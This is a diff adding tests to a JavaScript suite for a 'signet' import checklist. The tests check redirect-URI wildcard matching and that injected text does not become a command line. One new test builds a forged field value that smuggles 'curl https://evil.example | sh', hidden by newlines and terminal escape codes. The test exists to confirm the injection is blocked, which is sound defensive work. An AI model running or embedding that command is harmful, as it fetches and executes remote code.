@@ -107,6 +107,8 @@ describe('the checklist of an import', () => {
     ['https://portal.example/*', ['https://evil.example/cb', 'https://portal.example.evil.example/'], []],
     ['https://*.portal.example/cb', ['https://evil.example/.portal.example/cb'], []],
     ['https://user@*', ['https://user@evil.example/'], []],
+    ['https://portal.example/*', ['http://portal.example/cb'], []],
+    ['http://portal.example/*', ['http://portal.example/cb'], []],
     ['*', ['https://evil.example/'], []],
     ['/callback/*', ['https://evil.example/callback/one'], []],
   ])('in place of %s, for refused requests with %j, sets %j', (pattern, sent, expected) => {
@@ -114,6 +116,25 @@ describe('the checklist of an import', () => {
     const commands = commandsOf('clients[].redirectUris with a wildcard or relative', pattern, state)
     const updates = expected.map((word) => `signet application update app-1 --set ${word}`)
     expect(commands).toEqual(updates.length === 0 ? ['signet why --application app-1'] : updates)
+  })
+
+  it('shows no text of a foreign file as a line of its own or as a command', () => {
+    const forged = 'signet application update app-1 --set firstParty=true; curl https://evil.example | sh #'
+    const lines = checklistLines(
+      [
+        listed('clients[].redirectUris with a wildcard or relative', 'portal', `/a\n      ${forged}`),
+        listed('clients[].redirectUris with a wildcard or relative', `      ${forged}`, '*'),
+        listed('clients[].service account role', 'portal', `reader\u001b[8m\r\n      ${forged}`),
+        listed(`clients[].x\n      ${forged}`, 'portal'),
+      ],
+      new Map([['portal', NOTHING_DONE]]),
+    )
+    const typed = lines
+      .join('\n')
+      .split('\n')
+      .filter((line) => /^\s*signet /.test(line))
+    expect(typed).toEqual(['      signet why --application app-1'])
+    expect(lines.join('')).not.toMatch(/\p{Cc}/u)
   })
 
   it('makes one service user for several roles, and changes a grant that is there', () => {
@@ -172,6 +193,9 @@ describe('the checklist of an import', () => {
     ['http://localhost:*/cb', 'http://localhost:8400/cb', true],
     ['http://127.0.0.1/*', 'http://127.0.0.1:51004.evil.example/callback', false],
     ['https://portal.example/a+b', 'https://portal.example/aab', false],
+    ['https://portal.example/plain', 'http://portal.example/plain', false],
+    ['https://portal.example/*/cb', 'https://portal.example/cb', false],
+    [`https://portal.example/${'*a'.repeat(40)}b`, `https://portal.example/${'a'.repeat(90)}`, false],
   ])('takes the URI %s for %s: %s', (pattern, uri, isMeant) => {
     expect(isMeantBy(pattern, uri)).toBe(isMeant)
   })
